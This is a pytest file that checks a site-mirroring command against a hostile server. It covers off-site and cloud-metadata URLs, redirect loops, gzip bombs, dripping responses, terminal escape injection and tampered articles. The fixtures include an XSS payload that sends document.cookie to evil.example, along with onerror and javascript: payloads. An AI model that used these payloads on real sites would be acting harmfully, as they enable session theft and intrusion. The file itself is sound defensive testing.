"""`bothand mirror` against a hostile server (issue 21): every case an outside review found, on real sockets.

Each test first mirrors the honest site (the fixture corpus, es and fa), then turns one route
hostile and runs the command line again. For each: the documented exit status (0 all ok, 1
partial, 2 usage or total failure), one escaped line per error and no traceback, the previous
copy served unchanged, and nothing ever asked of another host.
"""

from __future__ import annotations

import gzip
import os
import signal
import subprocess
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from api.core.settings import ROOT
from api.tools.cli import main
from tests.hostile import MB, Answer, Request, Stage, capture_corpus, chunks, forever, json_answer

LANGS = ["es", "fa"]
KEY = "es/first-steps"
CAP = 4 * MB  # Limits.article_bytes


@pytest.fixture(scope="module")
def captured(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return capture_corpus(tmp_path_factory.mktemp("hostile-corpus"))


@pytest.fixture
def stage(captured: dict[str, Any]) -> Iterator[Stage]:
    with Stage(captured) as s:
        yield s


def run(capsys: pytest.CaptureFixture[str], stage: Stage, out: Path, *extra: str,
        langs: list[str] = LANGS) -> tuple[int, str]:
    """The command line, as cron runs it; returns the exit status and what it printed on stderr."""
    args = ["mirror", "--allow-http", stage.server.url, str(out), "--retries", "0", *extra]
    code = main([*args, *(a for lang in langs for a in ("--lang", lang))])
    err = capsys.readouterr().err
    assert "Traceback" not in err and "\x1b" not in err and "\r" not in err
    return code, err


def served(out: Path) -> dict[str, bytes]:
    """What a portal serving `out` shows, through the language symlinks (manifests left out: they note the run)."""
    return {f"{lang.name}/{p.name}": p.read_bytes() for lang in sorted(out.iterdir()) if not lang.name.startswith(".")
            for p in sorted(lang.iterdir()) if p.name != "manifest.json"}


def prime(capsys: pytest.CaptureFixture[str], stage: Stage, out: Path) -> dict[str, bytes]:
    """An honest first run: the copy a hostile run must leave as it is."""
    assert run(capsys, stage, out) == (0, "")
    before = served(out)
    assert sorted(before) == sorted(f"{key}.{ext}" for key in stage.site.articles if key.split("/")[0] in LANGS
                                    for ext in ("json", "html", "pdf", "large-print.pdf"))
    return before


def article(stage: Stage, key: str = KEY) -> Callable[[Request], bool]:
    lang, slug = key.split("/")
    return lambda r: r.route == f"/api/v1/articles/{slug}" and r.query.get("lang") == lang


def listing_of(lang: str) -> Callable[[Request], bool]:
    return lambda r: r.route == "/api/v1/articles" and r.query.get("lang") == lang


def errors(err: str) -> list[str]:
    lines = err.splitlines()
    assert all(line.startswith(("error: ", "warning: ")) for line in lines), lines
    return [line.removeprefix("error: ") for line in lines if line.startswith("error: ")]


# -- finding 3: only the site's origin is ever asked ------------------------------------------------------------------


def test_listed_urls_off_the_site_are_never_requested(stage: Stage, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    port = stage.server.url.rsplit(":", 1)[1]

    def hostile(r: Request) -> Answer | None:
        if not listing_of("es")(r):
            return None
        listing = stage.site.listing("es")
        listing["articles"][0]["urls"]["json"] = f"{stage.other.url}/admin/delete?all=1"
        listing["articles"][1]["urls"]["json"] = f"http://localhost:{port}/latest/meta-data/iam"  # another host
        return json_answer(listing)

    stage.hostile = hostile
    code, err = run(capsys, stage, out)
    assert code == 1  # es: both articles refused; fa mirrored
    assert stage.other.seen == [] and not any("admin" in p or "meta-data" in p for p in stage.server.paths())
    found = errors(err)
    assert len(found) == 2 and all("not fetched" in e and "not requested" in e for e in found)
    assert f"{stage.other.url}/admin/delete?all=1 is not on {stage.server.url}" in err
    assert f"localhost:{port}/latest/meta-data/iam is not on {stage.server.url}" in err
    assert served(out) == before


def test_a_next_link_off_the_site_is_never_followed(stage: Stage, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    link = f'<{stage.other.url}/latest/meta-data/iam>; rel="next"'
    stage.hostile = lambda r: json_answer(stage.site.listing("es"), Link=link) if listing_of("es")(r) else None
    code, err = run(capsys, stage, out)
    assert code == 1 and stage.other.seen == []
    assert errors(err) == [f'es: the listing\'s Link: rel="next" {stage.other.url}/latest/meta-data/iam is not on '
                           f"{stage.server.url}: not requested"]
    assert served(out) == before


@pytest.mark.parametrize("case", ["off the site", "loop", "endless"])
def test_redirects_are_checked_hop_by_hop(stage: Stage, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                          case: str) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    hops = {"n": 0}

    def hostile(r: Request) -> Answer | None:
        if not article(stage)(r):
            return None
        hops["n"] += 1
        target = {"off the site": f"{stage.other.url}/latest/meta-data/iam", "loop": r.path,
                  "endless": f"{r.path}&hop={hops['n']}"}[case]
        return Answer(302, {"Location": target})

    stage.hostile = hostile
    code, err = run(capsys, stage, out)
    assert code == 1 and stage.other.seen == []
    (message,) = errors(err)
    assert message.startswith(f"{KEY}: ")
    assert {"off the site": f"to {stage.other.url}/latest/meta-data/iam is not on {stage.server.url}",
            "loop": "redirect loop", "endless": "more than 5 redirects"}[case] in message
    assert hops["n"] <= 6
    assert served(out) == before


def test_plain_http_is_refused_unless_allowed(stage: Stage, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mirror"
    assert main(["mirror", stage.server.url, str(out), "--lang", "es"]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"error: {stage.server.url} is plain http: give an https URL") and stage.server.seen == []
    assert not out.exists()
    assert main(["mirror", "--allow-http", "-v", stage.server.url, str(out), "--lang", "es"]) == 0
    assert "warning: plain http (--allow-http)" in capsys.readouterr().err


# -- finding 4: caps on bytes, pages and time ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def bomb() -> bytes:
    """200 MiB of zeros in a ~200 KiB gzip stream."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(MB)
    data = b"".join(packer.compress(zeros) for _ in range(200)) + packer.flush()
    assert len(data) < 256 * 1024
    return data


def bad_bodies(bomb: bytes) -> dict[str, tuple[Answer, str]]:
    """What a hostile article answer can be, and what the mirror says about it."""
    body = gzip.compress(b'{"slug": "first-steps"}' * 1000)
    return {
        "over the cap": (Answer(body=chunks(100 * MB)), f"over the {CAP}-byte cap: stopped reading"),
        "declared too large": (Answer(headers={"Content-Length": str(400 * MB)}, body=chunks(400 * MB)),
                               f"the answer is {400 * MB} bytes, over the {CAP}-byte cap: not read"),
        "gzip bomb": (Answer(headers={"Content-Encoding": "gzip"}, body=bomb), f"inflates past the {CAP}-byte cap"),
        "bad gzip": (Answer(headers={"Content-Encoding": "gzip"}, body=b"this is not gzip at all"), "bad gzip data"),
        "cut gzip": (Answer(headers={"Content-Encoding": "gzip"}, body=body[: len(body) // 2]), "bad gzip data"),
        "brotli not asked": (Answer(headers={"Content-Encoding": "br"}, body=b"\x0b\x02\x80{}\x03"),
                             "unsupported Content-Encoding 'br'"),
        "deeply nested": (Answer(body=b"[" * 100_000 + b"]" * 100_000), "the JSON nests deeper than 32 levels"),
        "not UTF-8": (Answer(body=b'{"slug": "\xff\xfe"}'), "not JSON"),
    }


@pytest.mark.parametrize("case", ["over the cap", "declared too large", "gzip bomb", "bad gzip", "cut gzip",
                                  "brotli not asked", "deeply nested", "not UTF-8"])
def test_an_unusable_answer_fails_one_article(stage: Stage, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                              bomb: bytes, case: str) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    answer, expected = bad_bodies(bomb)[case]
    stage.hostile = lambda r: answer if article(stage)(r) else None
    sent = stage.server.sent
    start = time.monotonic()
    code, err = run(capsys, stage, out)
    (message,) = errors(err)
    assert code == 1 and message.startswith(f"{KEY}: ") and expected in message, message
    assert stage.server.sent - sent < CAP + 16 * MB  # stopped early (the rest of the 400 MB was never sent)
    assert time.monotonic() - start < 20
    assert served(out) == before


def test_a_deeply_nested_listing_fails_its_language(stage: Stage, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    stage.hostile = lambda r: Answer(body=b'{"articles": ' + b"[" * 5000 + b"]" * 5000 + b"}") if listing_of("es")(
        r) else None
    code, err = run(capsys, stage, out)
    assert (code, errors(err)) == (1, ["es: the JSON nests deeper than 32 levels"])
    assert served(out) == before


def test_endless_fresh_paging_stops_at_the_page_cap(stage: Stage, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)

    def hostile(r: Request) -> Answer | None:
        if not listing_of("es")(r):
            return None
        page = int(r.query.get("page", "1"))
        return json_answer(stage.site.listing("es"), Link=f'</api/v1/articles?lang=es&page={page + 1}>; rel="next"')

    stage.hostile = hostile
    start = time.monotonic()
    code, err = run(capsys, stage, out)
    assert (code, errors(err)) == (1, ["es: the listing goes on past 100 pages: stopped there"])
    assert sum(listing_of("es")(r) for r in stage.server.seen) <= 1 + 100  # the honest run's one, then the cap
    assert time.monotonic() - start < 30
    assert served(out) == before


def drip(stage: Stage) -> None:
    """Every es article answers a byte every half second, forever: each read is quick, the answer never ends."""
    headers = {"Content-Type": "application/json"}
    stage.hostile = lambda r: Answer(headers=headers, body=forever(), pause=0.5) if (
        r.route.startswith("/api/v1/articles/") and r.query.get("lang") == "es") else None


def test_a_dripping_server_is_cut_off_per_request(stage: Stage, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    drip(stage)
    start = time.monotonic()
    code, err = run(capsys, stage, out, "--timeout", "1")  # httpx's per-read timeout of 1 s never fires
    elapsed = time.monotonic() - start
    assert code == 2 and "the server stopped answering" in err and "no complete answer within 1 s" in err
    assert elapsed < 5, elapsed
    assert served(out) == before


def test_a_dripping_server_cannot_outlast_the_deadline(stage: Stage, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    drip(stage)
    start = time.monotonic()
    code, err = run(capsys, stage, out, "--timeout", "2", "--retries", "20", "--deadline", "4")
    elapsed = time.monotonic() - start
    assert (code, errors(err)) == (2, ["stopped at the run's deadline (4 s): what was not finished keeps its "
                                       "previous copy"])
    assert elapsed < 4 + 2, elapsed
    assert served(out) == before
    stage.hostile = None  # the lock was released: the next cron run works
    assert run(capsys, stage, out) == (0, "")


# -- finding 5: one escaped line, never a traceback -------------------------------------------------------------------

TERMINAL_TRICKS = "\x1b]0;pwned\x07\x1b[2J\rall OK\n\u202e"


@pytest.mark.parametrize("where", ["problem detail", "plain body", "listing language", "listed URL"])
def test_server_text_is_printed_escaped(stage: Stage, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                        where: str) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    if where == "problem detail":
        answer = json_answer({"title": "Forbidden", "status": 403, "detail": TERMINAL_TRICKS}, 403, etag=False)
        stage.hostile = lambda r: answer if article(stage)(r) else None
    elif where == "plain body":
        answer = Answer(403, {"Content-Type": "text/plain"}, TERMINAL_TRICKS.encode())
        stage.hostile = lambda r: answer if article(stage)(r) else None
    elif where == "listing language":
        stage.hostile = lambda r: json_answer({**stage.site.listing("es"), "lang": TERMINAL_TRICKS}) if listing_of(
            "es")(r) else None
    else:
        listing = stage.site.listing("es")
        listing["articles"][0]["urls"]["json"] = stage.server.url + "/" + TERMINAL_TRICKS
        stage.hostile = lambda r: json_answer(listing) if listing_of("es")(r) else None
    code, err = run(capsys, stage, out)  # run() asserts: no ESC, no CR in what it printed
    assert code == 1 and len(errors(err)) == 1
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in err and "\\u202e" in err and "\u202e" not in err
    assert "\\x0dall OK" in err or where == "listed URL"  # URL parsing drops CR and LF before we print
    assert served(out) == before


# -- finding 2: what is stored is verified, and the HTML is the site's own markup ------------------------------------


@pytest.mark.parametrize("case", ["script", "onerror", "javascript link", "title handler"])
def test_markup_the_site_never_writes_is_not_stored(stage: Stage, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str], case: str) -> None:
    def tamper(d: dict[str, Any]) -> None:
        if case == "script":
            d["html"] += "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        elif case == "onerror":
            d["html"] = d["html"].replace("<p>", '<p><img src="x" onerror="alert(1)">', 1)
        elif case == "javascript link":
            d["blocks"][1]["text"]["html"] = '<a href="javascript:alert(1)">an example site</a>'
        else:
            d["title"]["html"] = '<em onmouseover="alert(1)">First steps</em>'

    out = tmp_path / "mirror"
    stage.site.edit(KEY, tamper)  # the hash recomputed: a hostile server, not a broken proxy
    code, err = run(capsys, stage, out)  # a first run: the article was never mirrored
    assert code == 1
    (message,) = errors(err)
    assert message.startswith(f"{KEY}: not stored: ") and "carries markup the site never writes" in message
    assert not (out / f"{KEY}.json").exists() and not (out / f"{KEY}.html").exists()
    for path in [p for p in out.rglob("*") if p.is_file() and p.suffix != ".pdf"]:  # the text files
        text = path.read_text("utf-8")
        assert "<script" not in text and "onerror" not in text and "javascript:" not in text, path


def test_a_previous_copy_stays_when_the_html_turns_hostile(stage: Stage, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    stage.site.edit(KEY, lambda d: d.update(html=d["html"] + '<img src=x onerror="alert(1)">'))
    code, err = run(capsys, stage, out)
    assert code == 1 and errors(err) == [f'{KEY}: not stored: html carries markup the site never writes: '
                                         f'<img onerror="alert(1)" src="x">']
    assert served(out) == before


@pytest.mark.parametrize("case", ["title, hash left", "crisis number, hash left", "crisis link, rehashed",
                                  "crisis emptied, rehashed", "another article"])
def test_tampered_articles_are_not_stored(stage: Stage, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                          case: str) -> None:
    def phone(d: dict[str, Any]) -> dict[str, Any]:
        contacts = [c for r in d["crisis"]["resources"] for c in r["contacts"] if c["kind"] == "phone"]
        return contacts[0]  # type: ignore[no-any-return]

    changes: dict[str, tuple[Callable[[dict[str, Any]], object], bool, str]] = {
        "title, hash left": (lambda d: d["title"].update(text="Something else"), False,
                             "content_hash does not match the content (damaged or altered in transit)"),
        "crisis number, hash left": (lambda d: phone(d).update(href="tel:+1-555-0100"), False,
                                     "content_hash does not match the content (damaged or altered in transit)"),
        "crisis link, rehashed": (lambda d: phone(d).update(href="javascript:alert(1)"), True,
                                  "a crisis contact link is not https, tel, sms or mailto: javascript:alert(1)"),
        "crisis emptied, rehashed": (lambda d: d["crisis"].update(resources=[]), True,
                                     "the crisis block is missing or empty"),
        "another article": (lambda d: d.update(slug="routines-that-help"), True,
                            "answered es/routines-that-help instead"),
    }
    change, rehash, expected = changes[case]
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    stage.site.edit(KEY, change, rehash=rehash)
    code, err = run(capsys, stage, out)
    assert (code, errors(err)) == (1, [f"{KEY}: not stored: {expected}"])
    assert served(out) == before


# -- the memory figure: a 400 MB answer, measured in a child process -------------------------------------------------

# The child also prints its own high-water mark (Linux: VmHWM), which, unlike getrusage's ru_maxrss, does not
# count the memory of the process it was forked from (pytest, ~100 MB) before exec.
CHILD = """
import sys
from pathlib import Path
from api.tools.cli import main
code = main(sys.argv[1:])
status = Path("/proc/self/status")
print(status.read_text().split("VmHWM:")[1].split()[0] if status.exists() else 0)
sys.exit(code)
"""


@pytest.mark.parametrize("case", ["400 MB body", "gzip bomb"])
def test_a_huge_answer_costs_the_mirror_little_memory(stage: Stage, tmp_path: Path, bomb: bytes, case: str) -> None:
    answer = Answer(body=chunks(400 * MB)) if case == "400 MB body" else Answer(
        headers={"Content-Encoding": "gzip"}, body=bomb)
    stage.hostile = lambda r: answer if article(stage)(r) else None
    out, log, own = tmp_path / "mirror", tmp_path / "stderr.txt", tmp_path / "stdout.txt"
    with log.open("wb") as err, own.open("wb") as stdout:
        child = subprocess.Popen([sys.executable, "-c", CHILD, "mirror", "--allow-http", stage.server.url, str(out),
                                  "--lang", "es"], cwd=ROOT, stdout=stdout, stderr=err)
    killer = threading.Timer(120, lambda: os.kill(child.pid, signal.SIGKILL))
    killer.start()
    try:
        _, status, usage = os.wait4(child.pid, 0)  # this child's own peak RSS, not every child's of pytest
    finally:
        killer.cancel()
    child.returncode = os.waitstatus_to_exitcode(status)
    peak_mb, own_mb = usage.ru_maxrss / 1024, int(own.read_text().split()[-1]) / 1024  # both in kilobytes on Linux
    print(f"{case}: exit {child.returncode}, peak RSS {peak_mb:.0f} MB (getrusage), {own_mb:.0f} MB (its own "
          f"VmHWM), server sent {stage.server.sent / MB:.1f} MB")
    assert child.returncode == 1
    assert "Traceback" not in log.read_text() and f"{KEY}: the answer" in log.read_text()
    # Its own high-water mark since exec (VmHWM): getrusage's peak also counts the pytest process it was
    # forked from, which grows over a long session, so only the printed figure shows it.
    assert own_mb < 100
    assert stage.server.sent < 64 * MB


# Handouts (issue 25): the PDFs an article lists are copied beside it, from the site only, capped, size checked --
PDF_ROUTE = "/es/articles/first-steps.pdf"


def _pdf(answer: Answer) -> Callable[[Request], Answer | None]:
    return lambda r: answer if r.route == PDF_ROUTE else None


@pytest.mark.parametrize("case", ["on another host", "not the size listed", "not a PDF", "over the cap"])
def test_a_handout_the_mirror_cannot_vouch_for_fails_its_article(case: str, stage: Stage, tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    if case == "on another host":
        stage.site.edit(KEY, lambda d: d["handouts"][0].update(url=stage.other.url + PDF_ROUTE))
    elif case == "not the size listed":
        stage.site.edit(KEY, lambda d: d["handouts"][0].update(bytes=d["handouts"][0]["bytes"] + 1))
    elif case == "not a PDF":
        stage.hostile = _pdf(Answer(200, {"Content-Type": "application/pdf"}, b"<script>alert(1)</script>"))
    else:
        stage.hostile = _pdf(Answer(200, {"Content-Type": "application/pdf"}, chunks(400 * MB)))
    out = tmp_path / "mirror"
    code, err = run(capsys, stage, out)  # a first run: the article was never mirrored
    assert code == 1
    (message,) = errors(err)
    assert message.startswith(f"{KEY}: not stored: ") and "handout" in message, message
    assert not list((out / "es").glob("first-steps*"))  # neither the article nor any of its files
    assert (out / "es" / "sleep-and-mood.pdf").is_file()  # the other articles are complete
    assert stage.other.seen == []  # nothing asked of another host
    if case == "over the cap":
        assert stage.server.sent < 100 * MB  # it stopped reading at the cap (16 MiB), not at the end


def test_handouts_are_copied_as_served_and_replaced_with_their_article(stage: Stage, tmp_path: Path,
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "mirror"
    before = prime(capsys, stage, out)
    assert before[f"{KEY}.pdf"] == stage.site.captured["handouts"][PDF_ROUTE]
    assert before[f"{KEY}.large-print.pdf"].startswith(b"%PDF-")
    stage.site.edit(KEY, lambda d: d["handouts"][0].update(bytes=d["handouts"][0]["bytes"] - 1))  # a changed copy
    code, err = run(capsys, stage, out)
    assert code == 1 and "is " in err and "the article says" in err
    assert served(out) == before  # the previous copy, PDFs included, stays whole
